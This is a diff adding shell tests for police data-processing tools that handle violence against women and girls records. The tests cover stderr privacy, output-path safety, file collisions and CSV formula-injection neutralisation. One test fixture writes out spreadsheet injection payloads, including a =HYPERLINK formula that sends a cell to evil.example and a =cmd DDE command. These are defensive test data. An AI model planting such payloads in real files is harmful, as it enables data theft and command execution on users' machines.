@@ -762,3 +762,462 @@ PY
 	cmp f0.csv f.csv
 	cmp s0.csv s.csv
 }
+
+# --- Nothing personal on stderr, on any path ---------------------------------
+
+# The recipe run on files whose every cell is a unique marker: a header
+# and rows of markers, the same without a header line (the first record
+# becomes the header), and a first row holding one marker twice (a
+# repeated "column name"), each with and without --strict.
+markers_quiet() {
+	local out=out.csv f s bad=0
+	[ "$INPUTS" = 1 ] || return 0
+	[ "$1" = vawg-xlsx ] && out=out.xlsx
+	marker_files "$H/$KIND.csv"
+	for f in mk.csv mk-noheader.csv mk-dup.csv; do
+		for s in "" --strict; do
+			EXTRA=($(side_args) $s)
+			run_prog "$out" "$f"
+			if crashed "$st"; then
+				echo "$1 $f $s: exited $st: $(head -c 300 err)"
+				bad=1
+			fi
+			no_markers "$1 $f $s" || bad=1
+			rm -rf html
+		done
+	done
+	[ "$bad" = 0 ]
+}
+
+@test "personal data: no cell of a marker file on stderr (headerless, repeated names, bad rows)" {
+	each markers_quiet
+}
+
+# mk_check WHAT CMD...: runs CMD; fails when it crashed or a marker is
+# on stderr.
+mk_check() {
+	local what=$1 st
+	shift
+	"$@" >/dev/null 2>err
+	st=$?
+	if crashed "$st"; then
+		echo "$what: exited $st: $(head -c 300 err)"
+		return 1
+	fi
+	no_markers "$what"
+}
+
+@test "personal data: no marker on stderr for any kind, source, mode or option" {
+	local k f m bad=0
+	[ -n "$(programs)" ] || skip "no program built yet"
+	for k in crime order wanted marac disclosure engagement population; do
+		[ -f "$H/$k.csv" ] || continue
+		mkdir "$k"
+		(cd "$k" && marker_files "$H/$k.csv")
+	done
+	for f in mk.csv mk-noheader.csv mk-dup.csv; do
+		if need_quiet vawg-ingest; then
+			for k in crime order wanted marac disclosure engagement; do
+				mk_check "ingest $k $f" vawg-ingest --kind $k \
+				    --as-of 2026-10-31 "$k/$f" || bad=1
+				mk_check "ingest $k $f --rejects" vawg-ingest \
+				    --kind $k --as-of 2026-10-31 \
+				    --rejects rej.csv "$k/$f" || bad=1
+				mk_check "ingest $k $f --strict" vawg-ingest \
+				    --kind $k --strict "$k/$f" || bad=1
+			done
+			mk_check "ingest police.uk $f" vawg-ingest \
+			    --profile police-uk-street "crime/$f" || bad=1
+			mk_check "ingest two inputs $f" vawg-ingest --kind crime \
+			    "$H/crime.csv" "crime/$f" || bad=1
+		fi
+		if need_quiet vawg-stats; then
+			for m in "count crime" "charge-rate crime" \
+			    "outcomes crime" "repeat crime" "orders order" \
+			    "wanted wanted" "marac marac" \
+			    "disclosures disclosure" "engagement engagement"; do
+				set -- $m
+				mk_check "stats $1 $f" vawg-stats "$1" \
+				    --at 2026-10-31 "$2/$f" || bad=1
+			done
+			mk_check "stats --population $f" vawg-stats orders \
+			    --population "population/$f" "$H/order.csv" || bad=1
+		fi
+		if need_quiet vawg-dedupe; then
+			mk_check "dedupe --role $f" vawg-dedupe --role suspect \
+			    --pairs pairs.csv "crime/$f" || bad=1
+			mk_check "dedupe --index $f" vawg-dedupe --role suspect \
+			    --index "crime/$f" "$H/crime.csv" || bad=1
+			mk_check "dedupe --keep $f" vawg-dedupe --key crime_ref \
+			    --keep latest:reported_date "crime/$f" || bad=1
+		fi
+		if need_quiet vawg-rank; then
+			mk_check "rank $f" vawg-rank --as-of 2025-12-31 \
+			    --orders "order/$f" --wanted "wanted/$f" \
+			    "crime/$f" || bad=1
+			mk_check "rank --previous $f" vawg-rank \
+			    --as-of 2025-12-31 --previous "crime/$f" \
+			    "$H/crime.csv" || bad=1
+			mk_check "rank --weights $f" vawg-rank \
+			    --weights "crime/$f" "$H/crime.csv" || bad=1
+			mk_check "rank --harm $f" vawg-rank \
+			    --harm "crime/$f" "$H/crime.csv" || bad=1
+		fi
+		if need_quiet vawg-marac-pack; then
+			mk_check "marac-pack --cases $f" vawg-marac-pack \
+			    --cases "marac/$f" --crimes "$H/crime.csv" || bad=1
+			mk_check "marac-pack sources $f" vawg-marac-pack \
+			    --cases "$H/marac.csv" --crimes "crime/$f" \
+			    --orders "order/$f" --wanted "wanted/$f" \
+			    --disclosures "disclosure/$f" --marac "marac/$f" \
+			    --engagement "engagement/$f" || bad=1
+		fi
+		if need_quiet vawg-xlsx; then
+			mk_check "xlsx $f" vawg-xlsx --table -o out.xlsx \
+			    "crime/$f" "order/$f" || bad=1
+		fi
+	done
+	[ "$bad" = 0 ]
+}
+
+# --- Standard descriptors ---------------------------------------------------
+
+# Run with standard error closed (and, again, with standard input and
+# output closed too) on the planted file, which makes the programs
+# speak: the -o file holds only data, never the program's messages.
+closed_stderr() {
+	local out=out.csv args=("${CMD[@]}") f
+	[ "$1" = vawg-xlsx ] && out=out.xlsx
+	if [ "$INPUTS" = 1 ]; then
+		[ -n "$INOPT" ] && args+=("$INOPT")
+		args+=("$H/planted-$KIND.csv")
+	fi
+	for f in 1 2; do
+		rm -f "$out"
+		if [ "$f" = 1 ]; then
+			"${args[@]}" -o "$out" 2>&-
+		else
+			"${args[@]}" -o "$out" <&- >&- 2>&-
+		fi
+		st=$?
+		if crashed "$st" || [ ! -s "$out" ]; then
+			echo "$1: with descriptors closed exited $st"
+			return 1
+		fi
+		if grep -a -q "$1:" "$out"; then
+			echo "$1: its own messages are in $out:"
+			grep -a "$1:" "$out" | head -3
+			return 1
+		fi
+	done
+	# The messages went nowhere, but the status still tells.
+	"${args[@]}" -o "$out" 2>/dev/null
+	if [ "$st" != "$?" ]; then
+		echo "$1: exit $st with stderr closed, $? with it open"
+		return 1
+	fi
+}
+
+@test "descriptors: with 2>&- (and <&- >&-) the -o file holds only data" {
+	each closed_stderr
+}
+
+# --- Output paths judged by what they are -------------------------------------
+
+# -o in /dev/shm (a tmpfs under /dev): a regular file like any other,
+# so written to a temporary file and renamed at mode 0600.  A hard link
+# made to the old file beforehand keeps the old bytes when the file is
+# replaced, and gets the new ones when it is written in place.
+shm_output() {
+	local ext=csv out old
+	[ "$1" = vawg-xlsx ] && ext=xlsx
+	out=/dev/shm/vawg-hardening-$$-$1.$ext
+	old=/dev/shm/vawg-hardening-$$-$1.old
+	rm -f "$out" "$old"
+	echo previous >"$out"
+	chmod 644 "$out"
+	ln "$out" "$old"
+	EXTRA=()
+	(umask 022 && run_prog "$out" "$H/$KIND.csv" && echo "$st" >st)
+	st=$(cat st)
+	local mode=$(file_mode "$out") kept=$(cat "$old") size=$(stat -c %s "$out")
+	local left=$(ls -A /dev/shm | grep "^\.vawg-hardening-$$-$1\.")
+	rm -f "$out" "$old"
+	if [ "$st" -gt 1 ] || [ "$size" -le 9 ]; then
+		echo "$1: -o $out exited $st, $size bytes: $(cat err)"
+		return 1
+	fi
+	if [ "$mode" != 600 ] || [ "$kept" != previous ] || [ -n "$left" ]; then
+		echo "$1: -o in /dev/shm: mode $mode, old link holds '$kept'," \
+		    "left: $left"
+		return 1
+	fi
+}
+
+@test "outputs: -o /dev/shm/x is written atomically at mode 0600" {
+	[ -d /dev/shm ] && [ -w /dev/shm ] || skip "no writable /dev/shm"
+	each shm_output
+}
+
+@test "outputs: FIFOs and character devices are written directly; folders and dangling links refused" {
+	need vawg-dedupe
+	mkfifo out.fifo
+	cat out.fifo >got.csv &
+	vawg-dedupe --key crime_ref -o out.fifo "$H/crime.csv"
+	wait
+	cmp got.csv <(vawg-dedupe --key crime_ref "$H/crime.csv")
+	run -0 vawg-dedupe --key crime_ref -o /dev/null "$H/crime.csv"
+	mkdir adir
+	run -73 vawg-dedupe --key crime_ref -o adir "$H/crime.csv"
+	assert_output --partial "adir: Is a directory"
+	ln -s nowhere/x.csv dangling.csv
+	run -73 vawg-dedupe --key crime_ref -o dangling.csv "$H/crime.csv"
+	assert_output --partial "dangling.csv: symbolic link to nothing"
+	[ -L dangling.csv ]
+	# A link to a regular file: the file is replaced, the link stays.
+	echo old >target.csv
+	ln -s target.csv link.csv
+	run -0 vawg-dedupe --key crime_ref -o link.csv "$H/crime.csv"
+	[ -L link.csv ]
+	cmp target.csv <(vawg-dedupe --key crime_ref "$H/crime.csv")
+	[ "$(file_mode target.csv)" = 600 ]
+}
+
+# --- Outputs that name an input or another output ------------------------------
+
+# collide WHAT ARGS...: the recipe run with ARGS (before the inputs) on
+# in.csv must exit 64 with a message naming the clash, leave in.csv
+# byte-identical and make no other file.
+collide() {
+	local what=$1 args=("${CMD[@]}") before after
+	shift
+	args+=("$@")
+	if [ "$INPUTS" = 1 ]; then
+		[ -n "$INOPT" ] && args+=("$INOPT")
+		args+=(in.csv)
+	fi
+	before=$(ls -A | sort | tr '\n' ' ')
+	"${args[@]}" >../out.stdout 2>../err
+	st=$?
+	after=$(ls -A | sort | tr '\n' ' ')
+	mv ../err err
+	if [ "$st" != 64 ] || ! grep -q "^${CMD[0]}: .*same file\|inside" err; then
+		echo "${CMD[0]} $what: exited $st: $(head -c 300 err)"
+		return 1
+	fi
+	if ! cmp -s in.csv "$H/$KIND.csv"; then
+		echo "${CMD[0]} $what: the input was changed"
+		return 1
+	fi
+	if [ "$before" != "$after" ]; then
+		echo "${CMD[0]} $what: files made: $before -> $after"
+		return 1
+	fi
+}
+
+collisions() {
+	local s opt name bad=0
+	[ "$INPUTS" = 1 ] || return 0
+	mkdir w && cd w || return 1
+	cp "$H/$KIND.csv" in.csv
+	collide "-o the input" -o in.csv || bad=1
+	ln -s in.csv alias.csv
+	collide "-o a link to the input" -o alias.csv || bad=1
+	rm alias.csv
+	for s in "${SIDE[@]}"; do
+		opt=${s%% *} name=${s#* }
+		[ "${name%/}" != "$name" ] && continue
+		collide "$opt the input" "$opt" in.csv || bad=1
+		collide "$opt and -o the same new file" "$opt" new.csv \
+		    -o ./new.csv || bad=1
+	done
+	[ "$bad" = 0 ]
+}
+
+@test "outputs: an output naming an input or another output is exit 64, nothing written" {
+	each collisions
+}
+
+@test "outputs: collisions of each program's own files" {
+	need vawg-ingest
+	cp "$H/crime.csv" in.csv
+	cp in.csv keep.csv
+	# A raw export named as --rejects.
+	run -64 vawg-ingest --kind crime --rejects in.csv in.csv
+	assert_output --partial "same file"
+	cmp in.csv keep.csv
+	run -64 vawg-ingest --kind crime --rejects x.csv -o x.csv in.csv
+	[ ! -e x.csv ]
+	# Both on standard output.
+	run -64 vawg-ingest --kind crime --rejects - in.csv
+	run -64 vawg-ingest --kind crime --map in.csv -o in.csv in.csv
+	cmp in.csv keep.csv
+	# /dev/null for both is no clash; neither is one input given twice.
+	run -0 vawg-ingest --kind crime --as-of 2026-10-31 --rejects /dev/null \
+	    -o /dev/null in.csv in.csv
+	if need_quiet vawg-dedupe; then
+		run -64 vawg-dedupe --role suspect --pairs p.csv -o p.csv in.csv
+		run -64 vawg-dedupe --role suspect --index in.csv in.csv
+		cmp in.csv keep.csv
+		# The index is read, then rewritten: one file, no clash.
+		run -0 vawg-dedupe --role suspect --index idx.csv -o o.csv in.csv
+		run -0 vawg-dedupe --role suspect --index idx.csv -o o.csv in.csv
+	fi
+	if need_quiet vawg-rank; then
+		vawg-rank --as-of 2025-12-31 -o prev.csv in.csv
+		cp prev.csv prev.keep
+		run -64 vawg-rank --as-of 2025-12-31 --previous prev.csv \
+		    -o prev.csv in.csv
+		cmp prev.csv prev.keep
+	fi
+	if need_quiet vawg-marac-pack; then
+		cp "$H/marac.csv" cases.csv
+		run -64 vawg-marac-pack --cases cases.csv --crimes in.csv \
+		    --findings cases.csv
+		run -64 vawg-marac-pack --cases cases.csv --crimes in.csv \
+		    --findings f.csv --audit f.csv
+		run -64 vawg-marac-pack --cases cases.csv --crimes in.csv \
+		    --findings f.csv --summary s.csv -o f.csv
+		mkdir pages
+		cp in.csv pages/crimes.csv
+		run -64 vawg-marac-pack --cases cases.csv \
+		    --crimes pages/crimes.csv --html pages
+		assert_output --partial "inside --html pages"
+		run -64 vawg-marac-pack --cases cases.csv --crimes in.csv \
+		    --html pages --findings pages/f.csv
+		cmp pages/crimes.csv in.csv
+		[ ! -e f.csv ] && [ ! -e s.csv ] && [ ! -e pages/f.csv ]
+		# -o and --summary naming one file write it once.
+		run -0 vawg-marac-pack --as-of 2026-10-31 --cases cases.csv \
+		    --crimes in.csv --summary s.csv -o s.csv
+		cmp cases.csv "$H/marac.csv"
+	fi
+}
+
+# --- Spreadsheet-safe CSV ------------------------------------------------------
+
+# check_safe SAFE PLAIN: SAFE must be PLAIN with every field that begins
+# with = + - @ TAB or CR, and is not a number, written with a single
+# quote before it (OWASP's CSV injection guidance), each read with
+# Python's csv module; with no such field left bare.
+check_safe() {
+	"$PY" - "$1" "$2" <<'PY'
+import csv, re, sys
+num = re.compile(r"^[+-]?([0-9]+\.?[0-9]*|\.[0-9]+)([eE][+-]?[0-9]+)?$")
+def rows(p):
+    return list(csv.reader(open(p, newline="", encoding="utf-8")))
+safe, plain = rows(sys.argv[1]), rows(sys.argv[2])
+assert len(safe) == len(plain), (len(safe), len(plain))
+changed = 0
+for a, b in zip(safe, plain):
+    assert len(a) == len(b), (a, b)
+    for x, y in zip(a, b):
+        risky = y[:1] in ("=", "+", "-", "@", "\t", "\r") and y[:1] != "" \
+            and not num.match(y)
+        want = "'" + y if risky else y
+        assert x == want, (x, y)
+        changed += risky
+print(changed)
+PY
+}
+
+# Every program that writes CSV, with --excel-safe, on the hostile file
+# of its kind: formulas neutralised, every other byte of every field as
+# without it.
+excel_safe() {
+	local n
+	[ "$1" = vawg-xlsx ] && return 0
+	EXTRA=(--no-excel-safe)
+	case $1 in
+	vawg-rank|vawg-marac-pack) ;;
+	*) EXTRA=() ;;
+	esac
+	run_prog plain.csv "$H/hostile-$KIND.csv"
+	EXTRA=(--excel-safe)
+	run_prog safe.csv "$H/hostile-$KIND.csv"
+	if ! ok_status "$st" || ! n=$(check_safe safe.csv plain.csv); then
+		echo "$1: --excel-safe exited $st: $(head -c 300 err)"
+		return 1
+	fi
+	echo "# $1: --excel-safe: $n fields neutralised" >&3
+}
+
+@test "excel-safe: --excel-safe neutralises formulas in every program's CSV, and nothing else" {
+	each excel_safe
+}
+
+@test "excel-safe: =HYPERLINK, =cmd|, +1, @SUM: neutralised as OWASP says; numbers and plain values kept" {
+	need vawg-dedupe
+	"$PY" - >in.csv <<'PY'
+import csv, sys
+w = csv.writer(sys.stdout, lineterminator="\n")
+w.writerow(["crime_ref", "a", "b"])
+w.writerow(["1", '=HYPERLINK("http://evil.example/?x="&A1,"Click")', "plain"])
+w.writerow(["2", "=cmd|' /C calc'!A0", "-1.5"])
+w.writerow(["3", "+1+1", "+1"])
+w.writerow(["4", "@SUM(A1:A9)", "-"])
+sys.stdout.write('5,\tTAB,"\rCR"\n')	# CR quoted, as RFC 4180 writers do
+w.writerow(["6", "a=b", "O'Brien"])
+PY
+	# Expected bytes written by hand from the guidance: a single quote
+	# before the field, and the field quoted.
+	cat >want.csv <<'WANT'
+crime_ref,a,b
+1,"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",plain
+2,"'=cmd|' /C calc'!A0",-1.5
+3,"'+1+1",+1
+4,"'@SUM(A1:A9)","'-"
+WANT
+	printf '5,"'"'"'\tTAB","'"'"'\rCR"\n6,a=b,O'"'"'Brien\n' >>want.csv
+	vawg-dedupe --key crime_ref --excel-safe in.csv >got.csv
+	cmp got.csv want.csv
+	# Without it, byte-exact: CSV between the tools is never changed.
+	vawg-dedupe --key crime_ref in.csv | cmp - in.csv
+	if need_quiet vawg-ingest; then
+		vawg-ingest --kind crime --as-of 2026-10-31 "$H/hostile-crime.csv" \
+		    >a.csv 2>/dev/null || true
+		vawg-ingest --kind crime --as-of 2026-10-31 --excel-safe \
+		    "$H/hostile-crime.csv" >b.csv 2>/dev/null || true
+		[ "$(check_safe b.csv a.csv)" -gt 0 ]
+	fi
+	if need_quiet vawg-stats; then
+		vawg-stats count --by ward "$H/hostile-crime.csv" >a.csv
+		vawg-stats count --by ward --excel-safe \
+		    "$H/hostile-crime.csv" >b.csv
+		[ "$(check_safe b.csv a.csv)" -gt 0 ]
+	fi
+}
+
+@test "excel-safe: vawg-rank and vawg-marac-pack are safe by default; --no-excel-safe for pipes" {
+	local n
+	if need_quiet vawg-rank; then
+		vawg-rank --as-of 2025-12-31 --window 730d --top 0 \
+		    "$H/hostile-crime.csv" >safe.csv 2>/dev/null || true
+		vawg-rank --as-of 2025-12-31 --window 730d --top 0 \
+		    --no-excel-safe "$H/hostile-crime.csv" >plain.csv \
+		    2>/dev/null || true
+		n=$(check_safe safe.csv plain.csv)
+		[ "$n" -gt 0 ]
+		# Last month's list, written safe, is read back as it was:
+		# every person still there, none new, none left.
+		vawg-rank --as-of 2025-12-31 --window 730d --top 0 \
+		    --previous safe.csv "$H/hostile-crime.csv" >again.csv \
+		    2>/dev/null || true
+		"$PY" - again.csv <<'PY'
+import csv, sys
+m = [r["movement"] for r in csv.DictReader(open(sys.argv[1], newline=""))]
+assert m and all(x not in ("new", "left") for x in m), m
+PY
+	fi
+	if need_quiet vawg-marac-pack; then
+		vawg-marac-pack --as-of 2026-10-31 --cases "$H/hostile-cases.csv" \
+		    --crimes "$H/hostile-crime.csv" --findings f1.csv -o s1.csv \
+		    2>/dev/null || true
+		vawg-marac-pack --as-of 2026-10-31 --cases "$H/hostile-cases.csv" \
+		    --crimes "$H/hostile-crime.csv" --findings f2.csv -o s2.csv \
+		    --no-excel-safe 2>/dev/null || true
+		n=$(check_safe s1.csv s2.csv)
+		[ "$n" -gt 0 ]
+		check_safe f1.csv f2.csv
+	fi
+}
